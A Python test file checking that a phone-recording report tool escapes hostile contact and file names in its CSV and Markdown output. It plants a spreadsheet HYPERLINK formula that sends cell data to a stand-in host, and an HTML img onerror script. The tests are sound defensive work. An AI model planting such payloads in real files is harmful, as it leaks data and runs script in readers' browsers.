"""Names from the phone are data, never code: no formulas in CSV, no HTML or layout in Markdown."""

from __future__ import annotations

import csv
import io
import sqlite3

from conftest import run_cli
from reportdb import fill

EVIL_CONTACT = '=HYPERLINK("http://x.example/?"&A1,"点我")'
EVIL_NAME = "<img src=x onerror=alert(1)>\n# 伪造标题 | x.wav"


def _poison(home) -> None:
    with sqlite3.connect(home / "evidence.sqlite3") as conn:
        conn.execute("update recordings set contact=?, original_name=? where contact='张三'", (EVIL_CONTACT, EVIL_NAME))


def test_csv_cells_cannot_start_a_formula(evidence_home):
    fill()
    _poison(evidence_home)
    text = run_cli("report", "--month", "2026-10", "--format", "csv", check=True).stdout.lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    poisoned = [r for r in rows if r["contact"].startswith("'")]
    assert poisoned and poisoned[0]["contact"] == "'" + EVIL_CONTACT


def test_markdown_escapes_html_and_line_breaks_in_names(evidence_home):
    fill()
    _poison(evidence_home)
    md = run_cli("report", "--month", "2026-10", "--format", "markdown", check=True).stdout
    assert "<img" not in md and "&lt;img src=x onerror=alert(1)&gt;" in md
    assert "\n# 伪造标题" not in md  # the name's line break does not start a heading
    line = next(x for x in md.splitlines() if "伪造标题" in x)
    assert line.startswith("- 文件：") and "\\|" in line
